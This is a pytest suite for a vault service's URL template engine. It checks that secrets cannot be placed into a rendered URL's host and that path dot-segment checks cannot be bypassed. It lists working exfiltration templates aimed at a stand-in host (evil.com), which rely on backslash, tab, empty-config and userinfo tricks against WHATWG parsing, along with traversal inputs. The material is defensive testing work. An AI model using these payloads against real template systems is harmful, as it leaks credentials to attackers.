"""ENCODING_URL origin (tightened): no value other than a whole-origin or whole-host
config can reach a URL's scheme or authority, as a WHATWG URL parser reads the result.

Each attack below was reproduced against the old engine: the rendered URL, read by
``ada-url`` (a WHATWG-conformant parser, as browsers, Node and most HTTP clients are),
had the secret in its host.
"""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from ada_url import URL as WhatwgUrl

from vaultsvc.errors import InvalidArgument
from vaultsvc.templates import (
    CompiledTemplate,
    Encoding,
    Lookup,
    PlaceholderKind,
    compile_template,
    scan_template,
)

SECRET = "s3cr3t"


def values(
    configs: Mapping[str, str] | None = None, inputs: Mapping[str, str] | None = None
) -> Lookup:
    tables = {
        PlaceholderKind.SECRET: {"x": SECRET},
        PlaceholderKind.CONFIG: dict(configs or {}),
        PlaceholderKind.INPUT: dict(inputs or {}),
    }
    return lambda kind, name: tables[kind][name]


def same(value: str) -> Lookup:
    return lambda kind, name: value


def refused_at_compile(template: str) -> list[str]:
    compiled, problems = scan_template(template, Encoding.URL)
    assert compiled is None and problems, template
    with pytest.raises(InvalidArgument) as caught:
        compile_template(template, Encoding.URL)
    assert caught.value.reason in ("INVALID_TEMPLATE", "PLACEHOLDER_NOT_ALLOWED")
    assert SECRET not in caught.value.message
    return [p.reason for p in problems]


def render_error(compiled: CompiledTemplate, lookup: Lookup) -> InvalidArgument:
    with pytest.raises(InvalidArgument) as caught:
        compiled.render(lookup)
    return caught.value


def host_of(url: str) -> str:
    """The host as a WHATWG parser reads ``url``; a scheme-relative URL ('//host/...')
    is read against a base, as a browser or an HTTP client with a base URL does."""
    return str(WhatwgUrl(url, "https://api.example.com/").host)


# ------------------------------------------------------------- the attacks


ATTACKS = {
    # template: the configs that put the secret in the host under the old engine
    "{{config:scheme}}//{{secret:x}}.evil.com/x": {"scheme": "https:"},
    "{{config:empty}}https:/\\{{secret:x}}.evil.com": {"empty": ""},
    "{{config:proto}}:/\\{{secret:x}}.evil.com/x": {"proto": "https"},
    "{{config:empty}}//{{secret:x}}.evil.com/x": {"empty": ""},
    "https:///{{secret:x}}.evil.com/x": {},
    "https://{{config:empty}}/{{secret:x}}.evil.com/x": {"empty": ""},
    "https://{{config:empty}}\\{{secret:x}}.evil.com/x": {"empty": ""},
}


@pytest.mark.parametrize("template", sorted(ATTACKS))
def test_attack_really_reached_the_host(template: str) -> None:
    """The attack is real: rendered naively, WHATWG puts the secret in the host."""
    configs = ATTACKS[template]
    naive = template.replace("{{secret:x}}", SECRET)
    for key, value in configs.items():
        naive = naive.replace("{{config:" + key + "}}", value)
    assert SECRET in host_of(naive)


@pytest.mark.parametrize(
    "template",
    [
        "{{config:scheme}}//{{secret:x}}.evil.com/x",
        "{{config:empty}}https:/\\{{secret:x}}.evil.com",
        "{{config:proto}}:/\\{{secret:x}}.evil.com/x",
        "{{config:empty}}//{{secret:x}}.evil.com/x",
        "https:///{{secret:x}}.evil.com/x",
        "https:/\\{{secret:x}}.evil.com/x",
        "https:\\\\{{secret:x}}.evil.com/x",
        "https:{{secret:x}}.evil.com/x",
        "https:/{{secret:x}}.evil.com/x",
        "https://\\{{secret:x}}.evil.com/x",
        "https://\t/{{secret:x}}.evil.com/x",
        "https:/\t/{{secret:x}}.evil.com/x",
        "{{config:base}}/\\{{secret:x}}.evil.com/x",
        "{{config:base}}\\\\{{secret:x}}.evil.com/x",
        "{{config:base}}\\{{secret:x}}",
        "{{config:base}}/\t/{{secret:x}}.evil.com/x",
        "{{config:base}}{{config:more}}/x",
        "{{config:scheme}}://{{config:host}}/x",
        "{{config:scheme}}://api.example.com/x",
        "https://{{config:sub}}.example.com/x",
        "https://api.{{config:domain}}/x",
        "https://{{config:host}}:8443/x",
        "https://{{config:host}}{{config:port}}/x",
        "https://{{config:user}}@api.example.com/x",
        "{{config:x}}:/",
        "https://{{config:empty}}\\{{secret:x}}.evil.com/x",
    ],
)
def test_attacks_and_partial_origins_are_refused_at_compile_time(template: str) -> None:
    refused_at_compile(template)


@pytest.mark.parametrize(
    ("template", "value"),
    [
        # The whole-origin config must be scheme://host[:port][/path].
        ("{{config:base}}/x", ""),
        ("{{config:base}}/x", "https:"),
        ("{{config:base}}/x", "https:/"),
        ("{{config:base}}/x", "https://"),
        ("{{config:base}}/x", "https:/\\evil.com"),
        ("{{config:base}}/x", "https:evil.com"),
        ("{{config:base}}/x", "//evil.com"),
        ("{{config:base}}/x", "evil.com"),
        ("{{config:base}}/x", "https://user@evil.com"),
        ("{{config:base}}/x", "https://user:pw@evil.com"),
        ("{{config:base}}/x", "https://api.example.com\\@evil.com"),
        ("{{config:base}}/x", " https://api.example.com"),
        ("{{config:base}}/x", "https://api.example.com "),
        ("{{config:base}}/x", "https://api.example.com\t.evil.com"),
        ("{{config:base}}/x", "https://api.example.com\n"),
        ("{{config:base}}/x", "https://api.example.com\x00"),
        ("{{config:base}}/x", "https://api.example.com:99999"),
        ("{{config:base}}/x", "https://api.example.com:port"),
        ("{{config:base}}/x", "https://api.example.com?q=1"),
        ("{{config:base}}/x", "https://api.example.com#f"),
        ("{{config:base}}/x", "https://api.example.com/v1\\x"),
        ("{{config:base}}/x", "https://api.example.com/v 1"),
        ("{{config:base}}/x", "mailto:someone@example.com"),
        # The whole-host config must be host[:port].
        ("https://{{config:host}}/x", ""),
        ("https://{{config:host}}/x", "evil.com/"),
        ("https://{{config:host}}/x", "/evil.com"),
        ("https://{{config:host}}/x", "\\evil.com"),
        ("https://{{config:host}}/x", "user@evil.com"),
        ("https://{{config:host}}/x", "api.example.com@evil.com"),
        ("https://{{config:host}}/x", "api.example.com evil.com"),
        ("https://{{config:host}}/x", "api.example.com\t"),
        ("https://{{config:host}}/x", "api.example.com\u0085"),
        ("https://{{config:host}}/x", "https://api.example.com"),
        ("https://{{config:host}}/x", "api.example.com?"),
        ("https://{{config:host}}/x", "api.example.com#"),
        ("https://{{config:host}}/x", "api.example.com:"),
        ("https://{{config:host}}/x", "api.example.com:1:2"),
        ("https://{{config:host}}/x", "[::1"),
    ],
)
def test_origin_config_values_of_the_wrong_shape_are_refused(template: str, value: str) -> None:
    compiled = compile_template(template, Encoding.URL)
    error = render_error(compiled, values({"base": value, "host": value}))
    assert error.reason == "INVALID_URL_ORIGIN"
    assert "{{config:" in error.message
    if value.strip():
        assert value not in error.message


@pytest.mark.parametrize(
    ("template", "configs", "expected"),
    [
        (
            "{{config:base}}/v1/{{input.id}}",
            {"base": "https://api.example.com"},
            "https://api.example.com/v1/a%2Fb",
        ),
        (
            "{{config:base}}/v1/{{input.id}}",
            {"base": "https://api.example.com:8443/root"},
            "https://api.example.com:8443/root/v1/a%2Fb",
        ),
        ("{{config:base}}", {"base": "http://127.0.0.1:8080"}, "http://127.0.0.1:8080"),
        (
            "{{config:base}}?q={{input.id}}",
            {"base": "https://h.example"},
            "https://h.example?q=a%2Fb",
        ),
        ("{{config:base}}#{{input.id}}", {"base": "https://[::1]:1"}, "https://[::1]:1#a%2Fb"),
        ("https://{{config:host}}/v1", {"host": "api.example.com"}, "https://api.example.com/v1"),
        (
            "https://{{config:host}}",
            {"host": "api.example.com:8443"},
            "https://api.example.com:8443",
        ),
        ("https://{{config:host}}?a={{input.id}}", {"host": "h"}, "https://h?a=a%2Fb"),
        ("https://{{config:host}}#{{input.id}}", {"host": "[::1]"}, "https://[::1]#a%2Fb"),
        ("https://{{config:host}}/", {"host": "bücher.example"}, "https://bücher.example/"),
        ("git+ssh://{{config:host}}/r", {"host": "h.example"}, "git+ssh://h.example/r"),
    ],
)
def test_whole_origin_and_whole_host_configs_work(
    template: str, configs: dict[str, str], expected: str
) -> None:
    compiled = compile_template(template, Encoding.URL)
    assert compiled.render(values(configs, {"id": "a/b"})) == expected


@pytest.mark.parametrize(
    ("template", "host"),
    [
        ("https://api.example.com/x/{{secret:x}}", "api.example.com"),
        ("https://API.Example.COM:443/x?{{secret:x}}", "api.example.com"),
        ("https://api.example.com\\x\\{{secret:x}}", "api.example.com"),
        ("https://api.example.com\\{{secret:x}}@evil.com/", "api.example.com"),
        ("ht\ttps://api.exa\nmple.com/{{secret:x}}", "api.example.com"),
        ("https://user:pw@api.example.com/{{secret:x}}", "api.example.com"),
        ("https://api.example.com?{{secret:x}}", "api.example.com"),
        ("https://api.example.com#{{secret:x}}", "api.example.com"),
    ],
)
def test_literal_origins_read_as_whatwg_reads_them(template: str, host: str) -> None:
    result = compile_template(template, Encoding.URL).render(values())
    assert host_of(result) == host


@pytest.mark.parametrize(
    "template",
    [
        "https:/\\api.example.com/{{secret:x}}",
        "https:api.example.com/{{secret:x}}",
        "https:\\\\api.example.com/{{secret:x}}",
        "https:/api.example.com/{{secret:x}}",
        "https:///api.example.com/{{secret:x}}",
        "https:// api.example.com/{{secret:x}}",
        "https://api example.com/{{secret:x}}",
        "https://[::1/{{secret:x}}",
        "https://api.example.com:99999/{{secret:x}}",
        "//api.example.com/{{secret:x}}",
        "\\\\api.example.com/{{secret:x}}",
        " https://api.example.com/{{secret:x}}",
        "file:///etc/{{secret:x}}",
    ],
)
def test_odd_or_broken_literal_origins_are_refused(template: str) -> None:
    """Only 'scheme://authority' is accepted, also where a WHATWG parser would be lenient."""
    reasons = refused_at_compile(template)
    assert "INVALID_TEMPLATE" in reasons


# -------------------------------------------------------- the '..' segment check


@pytest.mark.parametrize(
    ("template", "value"),
    [
        ("https://h.example/a\\{{input.id}}\\b", ".."),
        ("https://h.example/a/{{input.id}}\\b", ".."),
        ("https://h.example/a\\{{input.id}}", ".."),
        ("https://h.example/a/{{input.id}}\t/b", ".."),
        ("https://h.example/a/\t{{input.id}}/b", ".."),
        ("https://h.example/a/.\t{{input.id}}/b", "."),
        ("https://h.example/a/.\n{{input.id}}\r/b", "."),
        ("https://h.example/a/%2\te{{input.id}}/b", "."),
        ("https://h.example/a/{{input.id}}\t", "."),
        ("{{config:base}}/a/{{input.id}}\\b", ".."),
    ],
)
def test_backslash_and_tab_do_not_bypass_the_dot_segment_check(template: str, value: str) -> None:
    naive = template.replace("{{input.id}}", value).replace("{{config:base}}", "https://h.example")
    # The attack is real: a WHATWG parser reads the value as a dot segment.
    assert value not in WhatwgUrl(naive).pathname.split("/")
    compiled = compile_template(template, Encoding.URL)
    error = render_error(compiled, values({"base": "https://h.example"}, {"id": value}))
    assert error.reason == "INVALID_URL_VALUE"


# -------------------------------------------------------------- re-parse backstop


def test_the_resolved_url_is_reparsed_and_its_host_compared() -> None:
    """After rendering, the URL is parsed again; a host other than the planned one
    (here forced by a planned host that the template cannot produce) is refused."""
    from vaultsvc.templates.encodings import check_resolved_origin

    check_resolved_origin("https://api.example.com/x", "https://api.example.com", field="f")
    for url, planned in [
        ("https://s3cr3t.evil.com/x", "https://api.example.com"),
        ("https:/\\s3cr3t.evil.com/x", "https://api.example.com"),
        ("https://api.example.com:444/x", "https://api.example.com"),
        ("http://api.example.com/x", "https://api.example.com"),
        ("not a url", "https://api.example.com"),
    ]:
        with pytest.raises(InvalidArgument) as caught:
            check_resolved_origin(url, planned, field="f")
        assert caught.value.reason == "INVALID_URL_ORIGIN"
        assert "s3cr3t" not in caught.value.message
        assert caught.value.message.startswith("f: ")


def test_check_template_reports_origin_problems_as_problems() -> None:
    compiled, problems = scan_template(
        "{{config:proto}}:/\\{{secret:x}}.evil.com/{{input.y}}", Encoding.URL, field="url"
    )
    assert compiled is None
    assert [(p.reason, p.placeholder) for p in problems] == [
        ("PLACEHOLDER_NOT_ALLOWED", "{{config:proto}}")
    ]
    compiled, problems = scan_template(
        "https://{{config:sub}}.{{secret:x}}.com/{{input.y}}", Encoding.URL, field="url"
    )
    assert compiled is None
    assert [(p.reason, p.placeholder) for p in problems] == [
        ("PLACEHOLDER_NOT_ALLOWED", "{{config:sub}}"),
        ("PLACEHOLDER_NOT_ALLOWED", "{{secret:x}}"),
    ]
    assert all(p.message.startswith("url: ") for p in problems)
    assert all(SECRET not in p.message for p in problems)
